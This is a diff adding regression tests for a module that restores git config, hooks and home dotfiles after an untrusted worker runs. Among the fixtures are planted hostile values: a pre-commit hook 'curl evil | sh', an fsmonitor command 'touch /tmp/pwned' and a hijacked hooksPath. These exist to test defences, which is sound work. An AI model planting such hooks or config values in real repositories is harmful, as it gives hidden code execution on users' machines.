@@ -2,6 +2,7 @@
 from __future__ import annotations
 
 import os
+import subprocess
 
 import pytest
 
@@ -231,7 +232,8 @@ def test_a_link_leading_into_your_checkout_is_never_written_through(tmp_path, mo
     (repo / "src.py").write_text("v1\n")
     monkeypatch.setenv("HOME", str(home))
     (home / ".gitconfig").symlink_to(repo / "src.py")
-    before = fingerprint.Fingerprint(repo / ".git", home={home / ".gitconfig": fingerprint.read_watched(home / ".gitconfig")})
+    before = fingerprint.Fingerprint(repo / ".git", home={home / ".gitconfig": fingerprint.read_watched(home / ".gitconfig")},
+                                     places={home / ".gitconfig": str(home)})
     (repo / "src.py").write_text("v2, yours\n")
     put_back = fingerprint.restore(before)
     assert put_back and fingerprint.NOT_PUT_BACK in put_back[0] and "leads into" in put_back[0], put_back
@@ -248,7 +250,8 @@ def test_a_folder_swapped_for_a_link_after_the_folders_were_put_back_is_never_go
     monkeypatch.setenv("HOME", str(home))
     config = home / ".config" / "git" / "config"
     before = fingerprint.Fingerprint(tmp_path, home={config: None}, folders={home / ".config": None,
-                                                                          home / ".config" / "git": None})
+                                                                          home / ".config" / "git": None},
+                                     places={config: str(config.parent)})  # as `take` records them
     config.write_text("[core]\n\thooksPath = /tmp/planted\n")
     real = fingerprint._restore_folders
 
@@ -284,3 +287,78 @@ def test_a_link_swapped_away_between_a_look_and_its_reading_is_a_change_not_a_cr
         raise FileNotFoundError(2, "No such file or directory")
     monkeypatch.setattr(os, "readlink", gone)
     assert fingerprint._folder(tmp_path / "flip") == "other"
+
+
+def _home(tmp_path, monkeypatch):
+    home = tmp_path / "home"
+    home.mkdir()
+    monkeypatch.setenv("HOME", str(home))
+    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
+    monkeypatch.delenv("GIT_CONFIG_GLOBAL", raising=False)
+    (tmp_path / "repo").mkdir()
+    subprocess.run(["git", "init", "-q", str(tmp_path / "repo")], check=True)
+    return home, tmp_path / "repo"
+
+
+def test_a_stow_folded_config_folder_of_yours_is_gone_through_to_put_back(tmp_path, monkeypatch):
+    """rv27, a regression of the walk by descriptors: with ~/.config/git a link of yours (GNU stow's folding), a
+    planted hooksPath was left in place, not put back, since the walk refused every link on its way."""
+    home, repo = _home(tmp_path, monkeypatch)
+    (home / "dotfiles" / "git").mkdir(parents=True)
+    (home / "dotfiles" / "git" / "config").write_text("[user]\n\tname = You\n")
+    (home / ".config").mkdir()
+    (home / ".config" / "git").symlink_to("../dotfiles/git")
+    before = fingerprint.take(repo, set())
+    with (home / ".config" / "git" / "config").open("a") as fh:
+        fh.write("[core]\n\thooksPath = /tmp/planted\n")
+    assert fingerprint.restore(before) == ["~/.config/git/config"]
+    assert (home / "dotfiles" / "git" / "config").read_text() == "[user]\n\tname = You\n"
+
+
+def test_a_link_of_yours_re_pointed_further_on_its_chain_is_not_said_put_back(tmp_path, monkeypatch):
+    """rv27: ~/.gitconfig -> .dotfiles/gitconfig, and ~/.dotfiles (no folder watched) re-pointed by a worker at a
+    folder of its own: the link was made again, as it was, and said put back, while git read the worker's file."""
+    home, repo = _home(tmp_path, monkeypatch)
+    (tmp_path / "persist").mkdir()
+    (tmp_path / "persist" / "gitconfig").write_text("[user]\n\tname = You\n")
+    (home / ".dotfiles").symlink_to(tmp_path / "persist")
+    (home / ".gitconfig").symlink_to(".dotfiles/gitconfig")
+    before = fingerprint.take(repo, set())
+    (tmp_path / "mine").mkdir()
+    (tmp_path / "mine" / "gitconfig").write_text("[core]\n\tfsmonitor = touch /tmp/pwned\n")
+    (home / ".dotfiles").unlink()
+    (home / ".dotfiles").symlink_to(tmp_path / "mine")
+    put_back = fingerprint.restore(before)
+    assert len(put_back) == 1 and fingerprint.NOT_PUT_BACK in put_back[0], put_back
+    assert (tmp_path / "persist" / "gitconfig").read_text() == "[user]\n\tname = You\n"
+
+
+def test_what_a_worker_put_where_a_link_of_yours_led_nowhere_is_removed(tmp_path):
+    """rv27: .git/hooks/pre-commit a link of yours to a hook not written yet; a worker writes it: the link was
+    said put back, the worker's hook left where git runs it."""
+    common = tmp_path / ".git"
+    (common / "hooks").mkdir(parents=True)
+    (tmp_path / "mine").mkdir()
+    (common / "hooks" / "pre-commit").symlink_to(tmp_path / "mine" / "pre-commit")
+    before = fingerprint.take_files(common)
+    (tmp_path / "mine" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
+    assert fingerprint._put_back(common, before, ".git") == [".git/hooks/pre-commit"]
+    assert not (tmp_path / "mine" / "pre-commit").exists()
+
+
+def test_hooks_of_yours_linked_into_home_and_re_pointed_further_on_remove_nothing_there(tmp_path):
+    """rv27: .git/hooks -> ~/dotfiles/hooks (yours); a worker re-points ~/dotfiles/hooks at ~/thesis. The files
+    listed through the chain were taken for planted hooks and removed, and the hook written into ~/thesis."""
+    common = tmp_path / ".git"
+    common.mkdir()
+    (tmp_path / "dotfiles" / "hooks").mkdir(parents=True)
+    (tmp_path / "dotfiles" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
+    (common / "hooks").symlink_to(tmp_path / "dotfiles" / "hooks")
+    before = fingerprint.take_files(common)
+    (tmp_path / "thesis").mkdir()
+    (tmp_path / "thesis" / "main.tex").write_text("years of work\n")
+    os.rename(tmp_path / "dotfiles" / "hooks", tmp_path / "aside")
+    (tmp_path / "dotfiles" / "hooks").symlink_to(tmp_path / "thesis")
+    put_back = fingerprint._put_back(common, before, ".git")
+    assert put_back == [f".git/hooks/{fingerprint.NOT_PUT_BACK}it leads elsewhere than when it was watched)"]
+    assert sorted(os.listdir(tmp_path / "thesis")) == ["main.tex"]
